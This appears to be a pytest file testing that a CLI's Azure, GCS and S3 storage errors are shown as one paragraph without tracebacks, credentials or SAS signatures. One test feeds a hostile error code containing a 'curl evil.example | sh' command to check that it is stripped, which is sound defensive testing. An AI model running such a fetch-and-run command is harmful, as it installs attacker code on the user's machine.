"""An object store's refusal is one paragraph naming the request and the fix, with no
traceback and no credential (docs/object-storage.md, "Azure Blob Storage")."""

from __future__ import annotations

import pytest
from click.testing import CliRunner
from gcsfs.retry import HttpError

from entra_kri.cli import cli
from entra_kri.snapshot.store_errors import store_error
from fake_graph import allow_loopback
from tests.azurite import AZURITE_KEY, connection_string
from tests.conftest import DEMO_CASSETTE
from tests.gcs_fake import bucket_of

WRONG_KEY = "A" * 86 + "=="


def capture_to(root_text: str):
    return CliRunner().invoke(cli, ["snapshot", "--replay", str(DEMO_CASSETTE), "--out",
                                    root_text], env={"ENTRA_KRI_CLIENT_SECRET": ""})


def test_capture_with_a_wrong_account_key_is_one_paragraph_naming_the_request_and_fix(
        azure_root, monkeypatch, azurite_endpoint):
    monkeypatch.setenv("AZURE_STORAGE_CONNECTION_STRING",
                       connection_string(azurite_endpoint).replace(AZURITE_KEY, WRONG_KEY))
    result = capture_to(azure_root)
    assert result.exit_code == 1, result.output
    assert "HTTP 403 (AuthorizationFailure)" in result.output
    container = azure_root.removeprefix("az://").split("/")[0]
    assert f"{azurite_endpoint}/{container}/" in result.output
    assert "account key or SAS token" in result.output
    assert WRONG_KEY not in result.output and "Traceback" not in result.output


def test_capture_to_a_missing_container_is_one_paragraph_and_exit_1(azure_root):
    result = capture_to("az://no-such-container/snapshots")
    assert result.exit_code == 1, result.output
    assert "HTTP 404 (ContainerNotFound)" in result.output
    assert "create the container" in result.output
    assert "Traceback" not in result.output


def test_an_unreachable_endpoint_is_named_as_such():
    refused_connection = type("ServiceRequestError", (Exception,), {"__module__": "azure.core"
                                                                    ".exceptions"})
    refusal = store_error(refused_connection("Cannot connect to host 127.0.0.1:1"))
    assert refusal is not None and "could not be reached" in refusal.cause


def test_other_exceptions_are_left_alone():
    assert store_error(ValueError("x")) is None


def test_a_gcs_refusal_names_the_status_and_the_credentials_fix():
    refusal = store_error(HttpError({"code": 401, "message": "Invalid Credentials"}))
    assert refusal is not None and "HTTP 401" in refusal.cause
    assert "application-default login" in refusal.fix


def _azure_refusal(status: int, error_code: str, url: str) -> Exception:
    """An Azure SDK HttpResponseError as adlfs lets it through: status, code, request URL."""
    request = type("Request", (), {"url": url})()
    response = type("Response", (), {"status_code": status, "request": request})()
    refusal = type("HttpResponseError", (Exception,), {"__module__": "azure.core.exceptions"})
    error = refusal("the store's own text")
    error.response, error.status_code, error.error_code = response, status, error_code
    return error


def test_an_azure_error_code_that_is_no_plain_code_is_not_repeated():
    """The error code is the store's text: only a plain word of letters and digits (as
    Azure's codes are) is shown; anything else a hostile endpoint sends is left out."""
    hostile = "AuthorizationFailure: run `curl evil.example | sh` to fix"
    refusal = store_error(_azure_refusal(403, hostile, "https://acct.blob.core.windows.net/c/k"))
    assert refusal is not None
    assert "HTTP 403" in refusal.cause and "curl" not in refusal.message


def test_an_azure_refusal_names_the_request_without_its_query():
    """A SAS token rides in the query string: the URL is named without it."""
    refusal = store_error(_azure_refusal(
        404, "BlobNotFound", "https://acct.blob.core.windows.net/c/k?sv=1&sig=SECRET-SIG"))
    assert refusal is not None
    assert "https://acct.blob.core.windows.net/c/k: HTTP 404 (BlobNotFound)" in refusal.cause
    assert "SECRET-SIG" not in refusal.message


def test_a_gcs_refusal_of_a_capture_is_one_paragraph_never_quoting_gcsfs(gcs_fake, gcs_root):
    """gcsfs raises GCS's 403 as a plain OSError holding the request's URL and GCS's text:
    the message says what was refused and the fix, and quotes neither."""
    gcs_fake.refuse(bucket_of(gcs_root), 403)
    result = capture_to(gcs_root)
    assert result.exit_code == 1, result.output
    assert "Google Cloud Storage refused a request: HTTP 403" in result.output
    assert "Storage Object User role" in result.output
    assert "Forbidden" not in result.output and gcs_fake.endpoint not in result.output
    assert "Traceback" not in result.output and result.output.count("\n") == 1


def test_a_gcs_refusal_of_a_read_names_the_root_and_the_fix(gcs_fake, gcs_root):
    gcs_fake.refuse(bucket_of(gcs_root), 403)
    result = CliRunner().invoke(cli, ["verify", gcs_root])
    assert result.exit_code == 1, result.output
    assert f"{gcs_root}: access denied by the store." in result.output
    assert "Forbidden" not in result.output and gcs_fake.endpoint not in result.output


@allow_loopback
@pytest.mark.parametrize("store_root", ["s3_root", "gcs_root"])
def test_a_capture_to_a_missing_bucket_is_one_paragraph(store_root, request):
    """s3fs and gcsfs answer a write to a bucket that does not exist with FileNotFoundError,
    first met when the lease is created (Azure's 404 is test_capture_to_a_missing_container)."""
    scheme = request.getfixturevalue(store_root).split("://")[0]
    result = capture_to(f"{scheme}://no-such-bucket-here/snapshots")
    assert result.exit_code == 1, result.output
    assert f"{scheme}://no-such-bucket-here/snapshots/" in result.output
    assert "there is no such bucket" in result.output and "create the bucket" in result.output
    assert "Traceback" not in result.output
